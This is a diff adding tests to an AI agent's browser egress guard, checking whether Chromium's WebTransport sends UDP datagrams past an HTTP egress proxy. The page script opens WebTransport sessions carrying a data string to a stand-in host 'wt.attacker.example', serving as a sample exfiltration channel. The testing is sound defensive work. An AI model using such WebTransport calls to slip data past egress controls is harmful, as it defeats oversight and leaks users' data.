@@ -1,7 +1,9 @@
+import { createSocket } from 'node:dgram';
 import { request, type IncomingMessage } from 'node:http';
 import { connect, type Socket } from 'node:net';
-import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { CHROMIUM_FLAGS, chromiumPath } from '../../../src/agent/browser/chromium';
 import { EgressProxy } from '../../../src/agent/guard/egress-proxy';
 import { contextOptionsFor, egressLockOf, installWatchdogs, openGuardedContext, type GuardEvent } from '../../../src/agent/guard/browser';
 import { ATTACKER, HELP, launchLabChromium, PORTAL, PortalServer } from './watchdogs/portal-server';
@@ -270,6 +272,65 @@ describe('openGuardedContext: a run’s context always has the egress lock', () 
     const context = await browser.newContext(contextOptionsFor(server.profile()));
     try {
       await expect(installWatchdogs(context, server.profile(), () => undefined)).rejects.toThrow(/openGuardedContext/);
+    } finally {
+      await context.close();
+    }
+  });
+});
+
+describe('egress proxy in Chromium: WebTransport (QUIC over UDP)', () => {
+  let browser: Browser;
+  beforeAll(async () => {
+    // WebTransport needs a secure page: the test portal's http origin is treated as one (as an https portal is).
+    browser = await chromium.launch({ executablePath: chromiumPath(), args: [...CHROMIUM_FLAGS, `--host-resolver-rules=${LAB_RULES}`, `--unsafely-treat-insecure-origin-as-secure=${server.origin()}`] });
+  });
+  afterAll(async () => {
+    await browser?.close();
+  });
+
+  /** Opens WebTransport sessions to an IP literal and an attacker name at a UDP listener; answers how many datagrams it received. */
+  async function datagramsFrom(context: BrowserContext): Promise<number> {
+    const udp = createSocket('udp4');
+    let datagrams = 0;
+    udp.on('message', () => (datagrams += 1));
+    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+    try {
+      const page = await context.newPage();
+      await page.goto(`${server.origin()}/secure`);
+      const port = udp.address().port;
+      const kinds = await page.evaluate(async (p) => {
+        const out: string[] = [String(isSecureContext)];
+        for (const url of [`https://127.0.0.1:${p}/wt?d=AMNPR6621D`, `https://wt.attacker.example:${p}/wt?d=AMNPR6621D`]) {
+          const session = new WebTransport(url);
+          session.ready.catch(() => undefined);
+          session.closed.catch(() => undefined);
+          await new Promise((r) => setTimeout(r, 1000));
+          out.push(typeof session);
+        }
+        return out;
+      }, port);
+      expect(kinds).toEqual(['true', 'object', 'object']);
+      await page.waitForTimeout(300);
+      return datagrams;
+    } finally {
+      udp.close();
+    }
+  }
+
+  it('control: without the proxy, a page’s WebTransport sends UDP to any address', async () => {
+    const context = await browser.newContext();
+    try {
+      expect(await datagramsFrom(context)).toBeGreaterThan(0);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('behind the proxy, Chromium sends WebTransport nowhere (it does not tunnel QUIC through an http proxy)', async () => {
+    const { proxy } = await startProxy();
+    const context = await browser.newContext({ proxy: { server: proxy.url, bypass: '<-loopback>' } });
+    try {
+      expect(await datagramsFrom(context)).toBe(0);
     } finally {
       await context.close();
     }
